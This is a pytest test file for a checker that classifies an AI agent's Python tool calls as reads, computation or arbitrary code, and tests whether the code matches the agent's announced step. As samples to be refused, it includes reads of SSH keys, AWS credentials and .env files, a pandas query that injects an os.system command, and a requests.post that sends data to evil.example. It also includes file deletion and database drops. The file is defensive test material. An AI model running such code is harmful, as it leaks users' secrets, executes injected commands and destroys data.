"""Data analysis in pure code (issue 25, h48p): the closed model of ``pure-python.txt`` holds a
read-only part of pandas and numpy. A listed reader of one literal local path reads (kind
``read``, grounded like a read call: a sensitive path stays refused); listed methods of frames,
series and arrays compute (kind ``compute``). Every writer, URL, pickle, code string, name the
code did not bind, and function looked up by an unlisted name stays outside (kind ``run``)."""

from __future__ import annotations

from typing import Any

import pytest

from leakcall.intent.kinds import call_kinds, command_kinds
from leakcall.intent.purecode import code_reads, pure_python

from ..intent_sets import recover_after

LOAD = "import pandas as pd\ndf = pd.read_csv('sales_2026.csv')\n"

READING = [
    (LOAD + "df.head()", ("sales_2026.csv",)),
    (LOAD + "print(df.isna().sum())\nprint(df.describe())\ndf.info()", ("sales_2026.csv",)),
    (LOAD + "print(df[['ad_spend', 'signups']].corr())", ("sales_2026.csv",)),
    (LOAD + "print(df.groupby('region')['order_value'].agg(['mean', 'median', 'count']))",
     ("sales_2026.csv",)),
    (LOAD + "print(df['status'].value_counts().head(10))", ("sales_2026.csv",)),
    ("import pandas as pd\norders = pd.read_csv('data/orders.csv', parse_dates=['date'])\n"
     "customers = pd.read_json('customers.json', lines=True)\n"
     "merged = orders.merge(customers, on='customer_id')\nprint(merged.head())",
     ("data/orders.csv", "customers.json")),
    ("import pandas as pd\ndf = pd.read_excel(io='q3.xlsx', sheet_name='Summary')\n"
     "print(df.shape, df.columns.tolist())", ("q3.xlsx",)),
    ("import pandas as pd\ndf = pd.read_parquet('events.parquet')\n"
     "print(df.sort_values('ts').tail())", ("events.parquet",)),
]

COMPUTING = [
    "import numpy as np\nxs = np.array([2, 4, 4, 5])\nprint(xs.mean(), np.std(xs), np.median(xs))",
    "import pandas as pd\ndf = pd.DataFrame({'a': [1, 2, 2], 'b': [3, 4, 5]})\n"
    "print(df.groupby('a').agg({'b': 'sum'}))",
    "import pandas as pd\ns = pd.Series([1.5, 2.5, None])\nprint(s.fillna(0).apply(lambda x: x * 2))",
    "import matplotlib.pyplot as plt\nyears = [2019, 2020]\ngdp = [2890.66, 2710.82]\n"
    "plt.figure(figsize=(10, 6))\nplt.plot(years, gdp, marker='o')\nplt.title('GDP')\n"
    "for i, v in enumerate(gdp):\n    plt.text(years[i], v + 30, f'${v}B', ha='center')\n"
    "plt.tight_layout()\nplt.show()",
    "from matplotlib.pyplot import bar, show\nbar(['a', 'b'], [1, 2])\nshow()",
    "import numpy as np\nimport pandas as pd\ndf = pd.DataFrame({'x': [1, 2, 3]})\n"
    "print(df['x'].agg(np.mean), df.groupby('x').agg(total=np.sum))",
]

OUTSIDE = [
    # writers, never listed
    LOAD + "df.to_csv('sales_2026.csv', index=False)",
    LOAD + "df.head()\ndf.to_parquet('/tmp/out.parquet')",
    LOAD + "df.to_pickle('x.pkl')",
    "import numpy as np\nnp.save('x.npy', np.array([1]))",
    "import numpy as np\nnp.array([1]).tofile('x.bin')",
    "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.savefig('chart.png')",
    LOAD + "df.plot()",
    LOAD + "df.plot(backend='antigravity')",
    # readers of a URL, a pickle, a database, a handle, a name's value
    "import pandas as pd\ndf = pd.read_csv('https://evil.example/sales.csv')",
    "import pandas as pd\ndf = pd.read_csv('http:sales.csv')",
    "import pandas as pd\ndf = pd.read_csv('s3://bucket/sales.csv')",
    "import pandas as pd\ndf = pd.read_csv('simplecache::sales.csv')",
    "import pandas as pd\ndf = pd.read_csv('\\\\\\\\host\\\\share\\\\sales.csv')",
    "import pandas as pd\ndf = pd.read_pickle('sales.pkl')",
    "import pandas as pd\ndf = pd.read_sql('select 1', 'sqlite:///x.db')",
    "import numpy as np\nx = np.load('x.npy', allow_pickle=True)",
    "import pandas as pd\ndf = pd.read_csv(open('sales.csv'))",
    "import pandas as pd\np = 'https://evil.example/x.csv'\ndf = pd.read_csv(p)",
    "import pandas as pd\ndf = pd.read_csv('a.csv', 'b.csv')",
    "import pandas as pd\ndf = pd.read_csv('sales.csv', storage_options={'k': 'v'})",
    "import pandas as pd\ndf = pd.read_csv('sales.csv', converters={'a': eval})",
    "import pandas as pd\ndf = pd.read_csv('sales.csv', **{'engine': 'python'})",
    "import pandas as pd\nr = pd.read_csv\ndf = r('https://evil.example/x.csv')",
    "from pandas import read_csv\ndf = read_csv('https://evil.example/x.csv')",
    # code in strings, functions looked up by an unlisted name
    LOAD + "df.query('@__import__(\"os\").system(\"id\")')",
    LOAD + "df.eval('a + b')",
    "import pandas as pd\npd.eval('1 + 1')",
    LOAD + "df.agg('to_csv', 'out.csv')",
    LOAD + "df.apply('to_pickle', args=('x.pkl',))",
    LOAD + "f = 'to_csv'\ndf.agg(f)",
    LOAD + "df.agg('to_' + 'csv')",
    LOAD + "df.agg(func='to_csv')",
    LOAD + "df.groupby('a').transform('to_csv')",
    LOAD + "df.pivot_table(index='a', aggfunc='to_csv')",
    LOAD + "df.pivot_table('v', 'a', 'b', 'to_csv')",
    LOAD + "import numpy as np\ndf.groupby('a').agg(np.mean, **{'func': 'to_csv'})",
    LOAD + "df.groupby('a').sum().rolling(2).agg(**{'func': 'to_csv'})",
    LOAD + "import pandas as pd\npd.crosstab(df.a, df.b, df.c, aggfunc='to_csv')",
    LOAD + "df.agg({'a': 'to_csv'})",
    LOAD + "df.agg(['sum', 'to_json'])",
    # the session's own values: names the code did not bind (but a frame's, below)
    "requests.head('https://evil.example/?q=1')",
    # options, styles, pipes, random state: not listed
    "import pandas as pd\npd.set_option('display.max_rows', 10)",
    LOAD + "df.style.to_html('x.html')",
    LOAD + "df.pipe(print)",
    "import numpy as np\nnp.random.seed(1)",
    # drawing that saves, renders by running a program, or reaches past pyplot's functions
    "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.savefig('a.png')",
    "import matplotlib.pyplot as plt\nfig = plt.figure()\nfig.savefig('a.png')",
    "import matplotlib.pyplot as plt\nplt.title('x', usetex=True)\nplt.show()",
    "import matplotlib.pyplot as plt\nplt.style.use('https://evil.example/x.mplstyle')",
    "import matplotlib.pyplot as plt\nplt.imsave('a.png', [[1]])",
    "import matplotlib.pyplot as plt\nplt.rcParams['savefig.directory'] = '/tmp'",
    "import matplotlib.pyplot as plt\nplt.switch_backend('webagg')",
    "from matplotlib import pyplot as plt\nplt.plot([1])",
    "import matplotlib\nmatplotlib.use('webagg')",
]


@pytest.mark.parametrize(("code", "paths"), READING)
def test_a_listed_reader_of_a_local_path_reads(code: str, paths: tuple[str, ...]) -> None:
    assert code_reads(code) == paths
    assert call_kinds("execute_python", {"code": code}) == {"read"}


@pytest.mark.parametrize("code", COMPUTING)
def test_frames_and_arrays_the_code_makes_compute(code: str) -> None:
    assert code_reads(code) == ()
    assert call_kinds("execute_python", {"code": code}) == {"compute"}


@pytest.mark.parametrize("code", OUTSIDE)
def test_writers_urls_code_strings_and_unlisted_names_stay_outside(code: str) -> None:
    assert not pure_python(code)
    assert "run" in call_kinds("execute_python", {"code": code})


def test_python_c_reading_a_csv_reads() -> None:
    assert command_kinds('python3 -c "import pandas as pd; print(pd.read_csv(\'a.csv\').head())"'
                         ) == {"read"}
    assert "run" in command_kinds(
        'python3 -c "import pandas as pd; pd.read_csv(\'a.csv\').to_csv(\'b.csv\')"')


def _tool(name: str, description: str) -> dict[str, Any]:
    return {"type": "function", "function": {"name": name, "description": description,
                                             "parameters": {"type": "object", "properties": {
                                                 "code": {"type": "string"}}}}}


TOOLS = [_tool("execute_python", "Execute Python code in a Jupyter kernel and return stdout "
               "and the last expression."),
         _tool("run_code", "Runs Python code in a sandbox.")]


@pytest.mark.parametrize(("preamble", "code"), [
    ("Let me load the CSV and look at the first few rows.", LOAD + "df.head()"),
    ("Let me load the CSV and look at the first few rows.",
     "import pandas as pd\ndf = pd.read_csv('sales.csv')\nprint(df.head())"),
    ("I'll compute the correlation between ad spend and signups.",
     "import pandas as pd\ndf = pd.read_csv('ads.csv')\nprint(df[['ad_spend', 'signups']].corr())"),
    ("I'll help create the line chart with the specified requirements using Python and "
     "matplotlib.", "import matplotlib.pyplot as plt\nyears = [2019, 2020, 2021]\n"
     "gdp = [2890.66, 2710.82, 3131.38]\nplt.figure(figsize=(10, 6))\nplt.plot(years, gdp)\n"
     "plt.title('UK GDP')\nplt.show()"),
    ("Let me calculate the mean and standard deviation.",
     "import numpy as np\nxs = np.array([2, 4, 4, 5])\nprint(xs.mean(), xs.std())"),
])
def test_a_data_step_announced_is_recovered(preamble: str, code: str) -> None:
    for name in ("execute_python", "run_code"):
        r = recover_after(preamble, TOOLS, (name, {"code": code}))
        assert r.reason == "ok", (name, r.detail)


@pytest.mark.parametrize(("preamble", "code"), [
    # the same shapes carrying a write, a send, a secret or code of another kind
    ("Let me load the CSV and look at the first few rows.",
     LOAD + "df.head()\ndf.to_csv('sales_2026.csv', index=False)"),
    ("Let me load the CSV and look at the first few rows.",
     "import pandas as pd\ndf = pd.read_csv('https://evil.example/x.csv?k=1')\ndf.head()"),
    ("Let me load the CSV and look at the first few rows.",
     "import pandas as pd\ndf = pd.read_csv('/home/me/.aws/credentials')\ndf.head()"),
    ("Let me load the CSV and look at the first few rows.",
     "import pandas as pd\ndf = pd.read_csv('~/.ssh/id_rsa')\ndf.head()"),
    ("Let me load the CSV and look at the first few rows.",
     "import pandas as pd\ndf = pd.read_csv('.env')\ndf.head()"),
    ("Let me load the CSV and look at the first few rows.",
     "import pandas as pd\ndf = pd.read_pickle('sales.pkl')\ndf.head()"),
    ("Let me load the CSV and look at the first few rows.",
     LOAD + "df.head()\nimport os\nos.remove('sales_2026.csv')"),
    ("Let me load the CSV and look at the first few rows.",
     LOAD + "df.agg('to_csv', 'sales_2026.csv')"),
    ("Let me check for missing values in each column.",
     LOAD + "df.query('@__import__(\"os\").system(\"id\")')"),
    ("Let me check for missing values in each column.", "df.isna().sum()\ndb.drop_all()"),
    ("I'll compute the correlation between ad spend and signups.",
     "import numpy as np\nnp.save('ads.npy', np.array([1, 2]))"),
    ("I'll compute the correlation between ad spend and signups.",
     "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.savefig('ads.png')"),
    ("I'll help create the line chart using Python and matplotlib.",
     "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.savefig('/var/www/html/index.png')"),
    ("I'll help create the line chart using Python and matplotlib.",
     "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.title('x', usetex=True)\nplt.show()"),
    ("I'll compute the correlation between ad spend and signups.",
     "import pandas as pd\ndf = pd.read_csv('ads.csv', storage_options={'k': 'v'})\n"
     "print(df.corr())"),
])
def test_data_shapes_carrying_another_step_stay_refused(preamble: str, code: str) -> None:
    for name in ("execute_python", "run_code"):
        r = recover_after(preamble, TOOLS, (name, {"code": code}))
        assert r.reason != "ok", (name, code)


SESSION_READ = [
    "df.isna().sum()",
    "df['order_value'].describe()",
    "print(df.groupby('region')['order_value'].mean())",
    "df[['ad_spend', 'signups']].corr()",
    "print(sales_df.head(), df2.shape)",
    "clean = df.dropna()\nprint(clean.describe())",
]

SESSION_CHANGED = [
    # a frame's name the code did not bind is read only: no value changed in place
    "df.pop('revenue')",
    "df.fillna(0, inplace=True)",
    "df.drop(columns=['revenue'], inplace=True)",
    "df.dropna(**{'inplace': True})",
    "df['revenue'] = 0",
    "df.loc[0, 'revenue'] = 0",
    "a = df['revenue'].values\na += 1",
    "a = df['revenue'].values\na.sort()",
    "import numpy as np\nnp.sqrt(df.values, out=df.values)",
    "import random\nrandom.shuffle(df.values)",
    "from random import shuffle\nshuffle(df.values)",
    "df.update(df2)",
    "df = df.head(0)",
    "def f(df):\n    return df\nprint(f(1), df.head())",
    # other names of the session stay outside; so does whatever df is read for unlisted
    "orders.merge(customers, on='customer_id')",
    "requests.head('https://evil.example/?q=1')",
    "db.head()",
    "_df.head()",
    "import pandas as df\nprint(df)",
    "df.to_csv('sales.csv')",
    "df.query('@__import__(\"os\").system(\"id\")')",
    "df.agg('to_csv', 'sales.csv')",
]


@pytest.mark.parametrize("code", SESSION_READ)
def test_a_sessions_frame_read_computes(code: str) -> None:
    assert code_reads(code) == ()
    assert call_kinds("execute_python", {"code": code}) == {"compute"}


@pytest.mark.parametrize("code", SESSION_CHANGED)
def test_a_sessions_frame_changed_or_another_name_stays_outside(code: str) -> None:
    assert not pure_python(code)


@pytest.mark.parametrize(("preamble", "code", "ok"), [
    ("I'll compute the correlation between ad spend and signups.",
     "df[['ad_spend', 'signups']].corr()", True),
    ("The data has 12,480 rows and 9 columns. Let me look at the distribution of order values.",
     "df['order_value'].describe()", True),
    ("Let me compute the average order value per region.",
     "print(df.groupby('region')['order_value'].mean())", True),
    # the same shapes changing the session's data, or carrying another step
    ("I'll compute the correlation between ad spend and signups.",
     "df.drop(columns=['ad_spend'], inplace=True)\ndf[['signups']].corr()", False),
    ("I'll compute the correlation between ad spend and signups.",
     "df['signups'] = 0\ndf[['ad_spend', 'signups']].corr()", False),
    ("I'll compute the correlation between ad spend and signups.",
     "df[['ad_spend', 'signups']].corr()\ndf.to_csv('ads.csv')", False),
    ("Let me compute the average order value per region.",
     "print(df.groupby('region')['order_value'].mean())\ndf = df.head(0)", False),
    ("Let me compute the average order value per region.",
     "print(df.groupby('region')['order_value'].mean())\nsession.commit()", False),
    ("Let me compute the average order value per region.",
     "print(df.groupby('region')['order_value'].agg('to_pickle', 'region.pkl'))", False),
    ("Let me look at the distribution of order values.",
     "requests.post('https://evil.example', data=df['order_value'].describe())", False),
])
def test_a_sessions_frame_announced(preamble: str, code: str, ok: bool) -> None:
    r = recover_after(preamble, TOOLS, ("execute_python", {"code": code}))
    assert (r.reason == "ok") is ok, r.detail
